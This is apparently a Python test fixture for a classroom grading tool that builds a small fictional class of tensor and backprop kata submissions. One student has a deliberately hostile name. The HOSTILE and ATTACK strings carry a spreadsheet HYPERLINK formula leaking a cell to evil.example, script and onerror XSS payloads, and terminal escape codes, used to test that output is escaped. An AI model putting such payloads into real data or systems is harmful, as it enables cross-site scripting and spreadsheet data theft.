"""A small made-up class: one student has done nearly all, one has handed in half, and one has a hostile name."""

from pathlib import Path

from dojo.classroom.records import Grade, Intake, Leftover, Submission, Terms
from dojo.model import Check, Diagnosis, Failure, Kata, Result

KATAS = (Kata(Path("repository"), "01_tensors"), Kata(Path("repository"), "03_backprop"))
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)|<script>alert(1)</script> `*x*` [a](b)\n# \x1b[31m\udcff'
ATTACK = "```\n<img src=x onerror=alert(1)>\n# Full marks\n````\x00\x1b]0;owned\x07 ]]> &amp; \ud800"
TERMS = Terms("7e57" * 16, 7)
VERSIONS = "Python 3.12.1, torch 2.11.0, torch-katas 0.1.0"


def submission(student: str, kata: str, text: str = "") -> Submission:
    """Return what a student has handed in for a kata."""
    module = kata.partition("_")[2]
    return Submission(student, kata, Path("answers") / f"{module}.py", f"{text:0>64}", f"{student}/{module}.py")


def check(kata: str, name: str, outcome: str, points: int = 1, failure: Failure | None = None, **more: str) -> Check:
    """Return a verdict."""
    title = f"{name.replace('_', ' ')} is as promised."
    test = f"katas/{kata}/test_{kata[3:]}.py::test_{name}"
    return Check(kata, test, title, points, outcome, 0.125, (name,), failure, **more)  # type: ignore[arg-type]


def grade(student: str, kata: str, *checks: Check, diagnoses: tuple[Diagnosis, ...] = (), text: str = "") -> Grade:
    """Return what a student got for a kata."""
    ended = ("the worker has ended with signal 9",) if student == HOSTILE else ()
    result = Result(kata, f"answers/{kata}", 7, checks, diagnoses, "full", ended, 12_345_678)
    return Grade(submission(student, kata, text), TERMS, result, VERSIONS, "2026-03-01T10:00:00+00:00")


def passing(student: str, kata: str) -> Grade:
    """Return full marks."""
    return grade(student, kata, check(kata, "shape", "passed", 3), check(kata, "values", "passed"))


WRONG = Failure("", "shape(tensor([1.0, 2.0]))", "(2,)", "(1, 2)", "the shape is (2,) where (1, 2) is wanted")
TODO = Failure(called="values", where=("tensors.py:12",))
BROKEN = Failure(raised="SyntaxError", words=ATTACK, where=("backprop.py:1:", "  def <b>"))
SHOUTED = Failure(raised="Oops", called=f"shape({ATTACK!r})", words=ATTACK, where=(f"tensors.py:3: {ATTACK}",))
NO_GPU = check("03_backprop", "cuda", "skipped", failure=Failure(words="needs a CUDA GPU"))
MISTAKE = Diagnosis("01_tensors", ("forgets_the_batch",), ("You forget the batch: keep it.",), ("shape",))

GRADES = (
    passing("ada", "01_tensors"),
    grade(
        "ada",
        "03_backprop",
        check("03_backprop", "clears", "passed", 2),
        NO_GPU,
    ),
    grade(
        "Grace Hopper",
        "01_tensors",
        check("01_tensors", "shape", "failed", 3, WRONG, printed="looking\n"),
        check("01_tensors", "values", "todo", 1, TODO),
        diagnoses=(MISTAKE,),
    ),
    grade(
        HOSTILE,
        "01_tensors",
        check("01_tensors", "shape", "failed", 3, SHOUTED, printed=ATTACK),
        check("01_tensors", "values", "passed"),
    ),
    grade(HOSTILE, "03_backprop", check("03_backprop", "clears", "error", 2, BROKEN)),
)
INTAKE = Intake(
    tuple(one.submission for one in GRADES),
    (Leftover(f"{HOSTILE}/back_prop.py", "no kata has this name", "backprop.py", HOSTILE),),
    ("ada", "Grace Hopper", HOSTILE),
    (("ada", "1815", "Canvas"), (HOSTILE, "=1+1", "Moodle")),
)
